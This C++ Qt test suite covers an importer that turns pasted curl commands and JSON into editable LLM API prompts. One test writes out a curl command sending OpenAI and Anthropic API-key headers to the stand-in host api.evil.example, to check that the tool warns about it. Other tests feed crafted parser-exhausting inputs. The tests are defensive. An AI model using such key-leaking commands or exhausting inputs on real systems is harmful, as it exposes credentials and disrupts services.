// SPDX-FileCopyrightText: 2026 The Etude authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "imported.h"

#include <QFile>

using namespace Qt::StringLiterals;

namespace etude {

namespace {

const QString chat = u"{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"Hi\"}]}"_s;

} // namespace

class TestImport : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void bareBodies_data()
    {
        QTest::addColumn<QByteArray>("json");
        QFile file(QStringLiteral(ETUDE_BODIES));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const Result<Json> bodies = parseJson(file.readAll());
        QVERIFY(bodies && bodies->size() > 15);
        for (const Json &body : *bodies)
            QTest::newRow(qPrintable(stringAt(body, "name"))) << jsonText(body);
    }
    void bareBodies()
    {
        QFETCH(const QByteArray, json);
        const Json wanted = parseJson(json).value();
        const Json &body = wanted.at("body");
        const Imported result = imported(QString::fromUtf8(jsonText(body)));
        QVERIFY(!result.endpoint);
        QCOMPARE(result.dialect, stringAt(wanted, "dialect"));
        QStringList kept;
        for (const Json &name : wanted.at("kept"))
            kept.append(textOf(name));
        QCOMPARE(result.keptForms, kept);
        const HttpRequest request = requestOf(result);
        Json same = body;
        // What every host does without it is only written where the dialect does so.
        if (!boolAt(body, "stream").value_or(true) && !member(request.body, "stream"))
            same.erase("stream");
        QVERIFY2(isSameJson(request.body, same), "is: " + jsonText(request.body) + "\nshould be: " + jsonText(same));
        // Whoever edits gives the host's own form up, and nothing else.
        const Prompt editable = editablePrompt(result);
        for (const QString &name : result.keptForms)
            QVERIFY(!member(editable.extra, name.toStdString()));
        QVERIFY(!editable.messages.isEmpty() || listAt(body, "messages").empty());
    }

    void whatIsUnderstoodIsSaid()
    {
        const Imported result = imported(
            u"curl https://api.example.com/v1/messages -H \"x-api-key: $K\" -H 'anthropic-version: 2023-06-01' -H "
            u"'X-A: b' -d '"
            "{\"model\": \"m\", \"max_tokens\": 5, \"system\": \"Hey\", \"messages\": [{\"role\": \"user\", \"content\": \"Hi\"}], \"temperature\": 0.70}'"_s);
        const QStringList lines{u"Address: https://api.example.com/v1/messages"_s,
                                u"Protocol: Anthropic Messages"_s,
                                u"Key: header x-api-key, from K"_s,
                                u"Further headers: X-A"_s,
                                u"Model: m"_s,
                                u"System text: 3 characters"_s,
                                u"Messages: 1"_s,
                                u"max_tokens 5"_s,
                                u"temperature 0.7"_s,
                                u"Not streamed"_s};
        QCOMPARE(result.understood, lines);
        QCOMPARE(result.notUnderstood, QStringList());
    }

    void theProtocolIsKnown_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("headers");
        QTest::addColumn<QString>("body");
        QTest::addColumn<QString>("dialect");
        const QString tokens = QString(chat).replace("\"model\""_L1, "\"max_tokens\":5,\"model\""_L1);
        QTest::newRow("path of chat") << u"/v1/chat/completions"_s << QString() << tokens << u"openai-chat"_s;
        QTest::newRow("path of messages") << u"/x/messages"_s << QString() << tokens << u"anthropic-messages"_s;
        QTest::newRow("header of messages")
            << u"/ask"_s << u"-H 'Anthropic-Version: 2024-01-01'"_s << tokens << u"anthropic-messages"_s;
        QTest::newRow("path of responses")
            << u"/v1/responses"_s << QString() << u"{\"model\":\"m\",\"input\":[]}"_s << u"openai-responses"_s;
        QTest::newRow("members of responses")
            << u"/ask"_s << QString() << u"{\"model\":\"m\",\"input\":[]}"_s << u"openai-responses"_s;
        QTest::newRow("messages at /responses") << u"/responses"_s << QString() << chat << u"openai-chat"_s;
        QTest::newRow("model_id") << u"/v1/chat/completions"_s << QString()
                                  << QString(chat).replace("model"_L1, "model_id"_L1) << u"modelslab"_s;
        QTest::newRow("nothing said") << u"/ask"_s << QString() << chat << u"openai-chat"_s;
    }
    void theProtocolIsKnown()
    {
        QFETCH(const QString, path);
        QFETCH(const QString, headers);
        QFETCH(const QString, body);
        const Imported result = imported(u"curl https://a.b"_s + path + u' ' + headers + u" -d '"_s + body + u'\'');
        QTEST(result.dialect, "dialect");
        QCOMPARE(requestOf(result).url, u"https://a.b"_s + path);
    }

    void whatEtudeAddsIsSaid()
    {
        const Imported streamed = imported(QString(chat).replace("\"model\""_L1, "\"stream\":true,\"model\""_L1));
        QVERIFY(streamed.prompt.stream);
        QCOMPARE(streamed.notUnderstood.size(), 1);
        QVERIFY(streamed.notUnderstood.constFirst().contains("stream_options"_L1));
        const Imported messages = imported(u"{\"model\":\"m\",\"system\":\"S\",\"messages\":[]}"_s);
        QCOMPARE(messages.notUnderstood.size(), 2);
        QVERIFY(messages.notUnderstood[0].contains("is empty"_L1));
        QVERIFY(messages.notUnderstood[1].contains("max_tokens"_L1));
        // What was left out was in the text.
        const Imported elsewhere =
            imported(u"import requests\nrequests.post('https://a.b', json={'model': 'm', 'messages': history()})"_s);
        QCOMPARE(elsewhere.notUnderstood.size(), 1);
        QVERIFY(elsewhere.notUnderstood.constFirst().contains("is left out"_L1));
        QVERIFY(!elsewhere.notUnderstood.constFirst().contains(", ,"_L1));
    }

    void streamingCanBeSwitchedOn()
    {
        for (const auto dialect : {"messages"_L1, "input"_L1}) {
            const Imported whole = imported(u"{\"model\":\"m\",\"stream\":false,\""_s + dialect
                                            + u"\":[{\"role\":\"user\",\"content\":\"Hi\"}]}"_s);
            QVERIFY(!whole.prompt.stream);
            QVERIFY(!member(whole.prompt.extra, "stream"));
            Imported streamed = whole;
            streamed.prompt.stream = true;
            QCOMPARE(boolAt(requestOf(streamed).body, "stream"), true);
        }
    }

    void aKeyForAnotherHostIsSaid()
    {
        const QList<Endpoint> known{
            {.id = u"openai"_s,
             .name = u"OpenAI"_s,
             .baseUrl = u"https://api.openai.com/v1"_s,
             .keyVariable = u"OPENAI_API_KEY"_s},
            {.id = u"anthropic"_s,
             .name = u"Anthropic"_s,
             .baseUrl = u"https://api.anthropic.com"_s,
             .keyVariable = u"ANTHROPIC_API_KEY"_s},
        };
        const QString options =
            u"/v1/chat/completions -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '"_s + chat + u'\'';
        QVERIFY(imported(u"curl https://api.openai.com"_s + options, known).notUnderstood.isEmpty());
        const Imported other =
            imported(u"curl https://api.evil.example"_s + options + u" -H \"X-Other: $ANTHROPIC_API_KEY\""_s, known);
        const QStringList sentences{
            u"OPENAI_API_KEY is the key of “OpenAI”; here it would go to api.evil.example: check the address."_s,
            u"ANTHROPIC_API_KEY is the key of “Anthropic”; here it would go to api.evil.example: check the address."_s};
        QCOMPARE(other.notUnderstood, sentences);
        QVERIFY(other.understood.contains(u"Further headers: X-Other"_s));
    }

    void aWordIsNotTakenForASecretEverywhere()
    {
        const Imported result = imported(
            u"{\"model\":\"m\",\"temperature\":1,\"metadata\":{\"sort_key\":\"temperature\"},\"messages\":[{\"role\":\"user\",\"content\":\"What is temperature?\"}]}"_s);
        QCOMPARE(result.prompt.messages.constFirst().text, u"What is temperature?"_s);
        QVERIFY(result.prompt.parameters.isSet(u"temperature"_s));
        QVERIFY(result.notUnderstood.constFirst().contains("sort_key"_L1));
    }

    void whatIsToBeChangedIsSaid()
    {
        const Imported ollama = imported(u"curl http://localhost:11434/api/chat -d '"_s + chat + u'\'');
        QCOMPARE(ollama.notUnderstood.size(), 1);
        QVERIFY(ollama.notUnderstood.constFirst().contains("/v1/chat/completions"_L1));
        const Imported site = imported(u"curl https://a.b -H 'HTTP-Referer: <YOUR_SITE_URL>' -d '"_s + chat + u'\'');
        QVERIFY(site.endpoint->headers.isEmpty());
        QVERIFY(site.notUnderstood.constFirst().contains("HTTP-Referer"_L1));
    }

    void aRequestAsItIsPrinted()
    {
        for (const Dialect *dialect : allDialects()) {
            const Endpoint endpoint{.dialect = dialect->id(),
                                    .baseUrl = u"https://a.b/v1"_s,
                                    .auth = dialect->defaultAuth(),
                                    .keyVariable = u"MY_KEY"_s,
                                    .headers = {{u"X-Org"_s, u"${ORG}"_s}}};
            const auto request =
                dialect->chatRequest({.model = u"m"_s, .messages = {{.text = u"${MY_KEY}"_s}}}, endpoint);
            const Imported result = imported(QString::fromUtf8(jsonText(toJson(*request), 2)));
            QCOMPARE(requestOf(result), *request);
            QCOMPARE(result.keyKind, PastedKey::Variable);
        }
    }

    void aSavedPrompt()
    {
        Prompt prompt{.model = u"m"_s,
                      .system = u"S"_s,
                      .messages = {{.text = u"Hi {{name}}"_s}},
                      .variables = {{u"name"_s, u"Ada"_s}}};
        prompt.parameters.set(u"temperature"_s, 0.5);
        const Imported result = imported(QString::fromUtf8(jsonText(toJson(prompt), 2)));
        QCOMPARE(result.prompt, prompt);
        QVERIFY(!result.endpoint);
        Json newer = toJson(prompt);
        newer["version"] = 99;
        QVERIFY(refusal(QString::fromUtf8(jsonText(newer))).contains("newer"_L1));
    }

    void jsonAsPeopleWriteIt()
    {
        for (
            const QString &text :
            {u"{ model: 'm', messages: [{ role: 'user', content: 'Hi' }], }"_s,
             u"{\n  // the model\n  \"model\": \"m\",\n  \"messages\": [{\"role\": \"user\", \"content\": \"Hi\"},]\n}"_s,
             u"{'model': 'm', 'messages': [{'role': 'user', 'content': 'Hi'}]}"_s}) {
            QVERIFY(isSameJson(requestOf(imported(text)).body, parseJson(chat).value()));
            const Imported command = imported(u"curl https://a.b -d @- <<'END'\n"_s + text + u"\nEND\n"_s);
            QVERIFY(isSameJson(requestOf(command).body, parseJson(chat).value()));
        }
        const Imported list =
            imported(u"[{\"role\": \"system\", \"content\": \"S\"}, {\"role\": \"user\", \"content\": \"Hi\"}]"_s);
        QCOMPARE(list.prompt.system, u"S"_s);
        QCOMPARE(list.prompt.messages.size(), 1);
    }

    void aKnownHostLendsItsNames()
    {
        const QList<Endpoint> known{{.id = u"other"_s, .name = u"Other"_s, .baseUrl = u"https://other.example"_s},
                                    {.id = u"deepinfra"_s,
                                     .name = u"DeepInfra"_s,
                                     .baseUrl = u"https://api.deepinfra.com/v1/openai"_s,
                                     .keyVariable = u"DEEPINFRA_TOKEN"_s}};
        const QString url = u"https://api.deepinfra.com/v1/openai/chat/completions"_s;
        const Imported same =
            imported(u"curl "_s + url + u" -H 'Authorization: Bearer YOUR_KEY' -d '"_s + chat + u'\'', known);
        QCOMPARE(same.endpoint->name, u"DeepInfra"_s);
        QCOMPARE(same.endpoint->keyVariable, u"DEEPINFRA_TOKEN"_s);
        QCOMPARE(same.knownId, u"deepinfra"_s);
        const Imported ownKey =
            imported(u"curl "_s + url + u" -H \"Authorization: Bearer $MINE\" -d '"_s + chat + u'\'', known);
        QCOMPARE(ownKey.endpoint->keyVariable, u"MINE"_s);
        QCOMPARE(ownKey.endpoint->name, u"DeepInfra"_s);
        QVERIFY(ownKey.knownId.isEmpty());
        const Imported elsewhere =
            imported(u"curl https://api.deepinfra.com/v2/chat/completions -d '"_s + chat + u'\'', known);
        QCOMPARE(elsewhere.endpoint->name, u"DeepInfra"_s);
        QVERIFY(elsewhere.knownId.isEmpty());
    }

    void whatIsNoRequest_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("words");
        const auto row = [](const char *name, const QString &text, const QString &words) {
            QTest::newRow(name) << text << words;
        };
        row("nothing", QString(), u"nothing to import"_s);
        row("blanks", u" \n\t "_s, u"nothing to import"_s);
        row("prose", u"Please call me back."_s, u"no request that Etude knows"_s);
        row("a key", u"sk-proj-aB3dE5fG7hJ9"_s, u"no request"_s);
        row("a number", u"42"_s, u"no request"_s);
        row("empty object", u"{}"_s, u"neither"_s);
        row("empty list", u"[]"_s, u"neither"_s);
        row("other JSON", u"{\"a\": [1, 2]}"_s, u"neither"_s);
        row("broken JSON", u"{\"model\": \"m\", \"messages\": [}"_s, u"Not valid JSON"_s);
        row("error", u"{\"error\": {\"message\": \"Invalid key\"}}"_s, u"error message"_s);
        row("list of models", u"{\"object\": \"list\", \"data\": []}"_s, u"host's list"_s);
        row("answer of messages", u"{\"type\": \"message\", \"content\": [], \"usage\": {}}"_s, u"host's answer"_s);
        row("answer of responses", u"{\"object\": \"response\", \"output\": []}"_s, u"host's answer"_s);
        row("stream of messages", u"event: message_start\ndata: {\"type\": \"message_start\"}\n\n"_s,
            u"streamed answer"_s);
        row("headers of an answer", u"HTTP/2 200\ncontent-type: application/json\n\n{}"_s,
            u"answer with its headers"_s);
        row("web page", u"<!DOCTYPE html><html><body>curl</body></html>"_s, u"web page"_s);
        row("other command", u"pip install openai"_s, u"other than curl"_s);
        row("vLLM", u"vllm serve deepseek-ai/DeepSeek-V3.2 --tensor-parallel-size 8"_s, u"model server (vllm serve)"_s);
        row("Ollama", u"ollama run llama3"_s, u"model server"_s);
        row("llama-server", u"./llama-server -m model.gguf"_s, u"no request"_s);
        row("the word curl", u"curl"_s, u"no request"_s);
        row("binary",
            QString::fromLatin1("\x7f"
                                "ELF\x00\x01\x02"_ba
                                + QByteArray(100, '\xff')),
            u"no request"_s);
    }
    void whatIsNoRequest()
    {
        QFETCH(const QString, text);
        QFETCH(const QString, words);
        const Result<Imported> result = importText(text);
        QVERIFY(!result);
        QCOMPARE(result.error().kind, Error::Kind::Invalid);
        QVERIFY2(result.error().words.contains(words), qPrintable(result.error().words));
        QVERIFY(!result.error().words.contains("aB3dE5fG7hJ9"_L1));
    }

    void tooLong() { QVERIFY(refusal(QString(20 * 1024 * 1024 + 1, u'x')).contains("20 million"_L1)); }

    //! Each of these took the square of the time, or the whole stack, of a reader written without care. None is a request.
    void hostileTextsEnd_data()
    {
        QTest::addColumn<QString>("unit");
        QTest::addColumn<QString>("begin");
        for (const QString &unit : {u"["_s,    u"{\"a\":"_s, u"("_s,    u"f("_s,          u"{"_s,      u"a=["_s,
                                    u"'"_s,    u"\""_s,      u"`${"_s,  u"f\"{"_s,        u"\"\"\""_s, u"'\\'"_s,
                                    u"/["_s,   u"<<<A\n"_s,  u"<<A "_s, u"$(cat <<A\n"_s, u"${A:-"_s,  u"$'"_s,
                                    u"\\"_s,   u"^\""_s,     u"%a%"_s,  u"@'\n"_s,        u"-H a: "_s, u"| "_s,
                                    u"a=b "_s, u"<<A | "_s,  u"=> "_s,  u"await "_s,      u"- "_s,     u"function("_s,
                                    u"[[]"_s,  u"a?b:"_s,    u"x.y"_s,  u"**{"_s,         u"```\n"_s,  u"$ "_s})
            for (const QString &begin : {QString(), u"curl https://a.b -d "_s, u"import requests\nrequests.post("_s,
                                         u"const a = "_s, u"<?php\n$a = "_s})
                QTest::newRow(qPrintable(begin.left(6) + u'|' + unit)) << unit << begin;
    }
    void hostileTextsEnd()
    {
        QFETCH(const QString, unit);
        QFETCH(const QString, begin);
        const QString text = begin + unit.repeated(200'000 / unit.size());
        QVERIFY(!importText(text));
    }

    //! Each level of JSON in JSON doubles the backslashes.
    void textsInTextsDoNotMultiply()
    {
        for (const auto &[begin, end, last] : {std::tuple{u"JSON.stringify({\"a\":"_s, u"})"_s, u"\"\\\"\""_s},
                                               {u"json.dumps(dict(a="_s, u"))"_s, u"'\"'"_s},
                                               {u"JSON.stringify({a:`${"_s, u"}`})"_s, u"'\"'"_s}}) {
            const QString nested = begin.repeated(40) + last + end.repeated(40);
            QVERIFY(!importText(u"const b = "_s + nested));
            QVERIFY(!importText(u"import json\nb = "_s + nested));
        }
    }

    void longChainsAndFlatObjectsEnd()
    {
        const QString post = u"\nrequests.post('https://a.b', json={'model': 'm', 'messages': x})"_s;
        const QString item = u"[{'role': 'user', 'content': 'Hi'}]"_s;
        const Imported list = imported(u"import requests\nx = "_s + (item + u" + "_s).repeated(16'000) + item + post);
        QCOMPARE(list.prompt.messages.size(), 16'001);
        const Imported text = imported(u"import requests\nq = "_s + u"'ab' + "_s.repeated(100'000) + u"'c'\n"_s
                                       + u"x = [{'role': 'user', 'content': q}]"_s + post);
        QCOMPARE(text.prompt.messages.constFirst().text.size(), 200'001);
        QString flat;
        for (int i = 0; i < 60'000; ++i)
            flat += u"\"m%1\":1,"_s.arg(i);
        flat = u"{\"model\":\"m\","_s + flat + u"\"messages\":[]}"_s;
        QVERIFY(refusal(flat).contains("4000 members"_L1));
        QVERIFY(refusal(u"curl https://a.b -d '"_s + flat + u'\'').contains("4000 members"_L1));
        const Imported marks = imported(
            u"curl https://a.b -d \"{\\\"model\\\":\\\"m\\\",\\\"messages\\\":[{\\\"role\\\":\\\"user\\\",\\\"content\\\":\\\""_s
            + u"$A"_s.repeated(100'000) + u"\\\"}]}\""_s);
        QCOMPARE(marks.prompt.messages.constFirst().text.size(), 500'000);
    }

    void variablesDoNotMultiply()
    {
        QString code = u"a = 'xxxxxxxxxxxxxxxx'\n"_s;
        QString shell = u"A=xxxxxxxxxxxxxxxx\n"_s;
        for (int i = 0; i < 60; ++i) {
            code += u"a = [a, a]\nb = a + a\n"_s;
            shell += u"A=\"$A$A\" B=\"$A$B\"\n"_s;
        }
        // Whatever comes of it, it comes soon and fits into memory.
        const Result<Imported> fromCode = importText(code + u"requests.post('https://a.b', json={'messages': a})"_s);
        QVERIFY(!fromCode || !fromCode->notUnderstood.isEmpty());
        QVERIFY(!importText(shell + u"curl https://a.b -d \"$A$B\""_s));
    }
};

} // namespace etude

QTEST_APPLESS_MAIN(etude::TestImport)
#include "tst_import.moc"
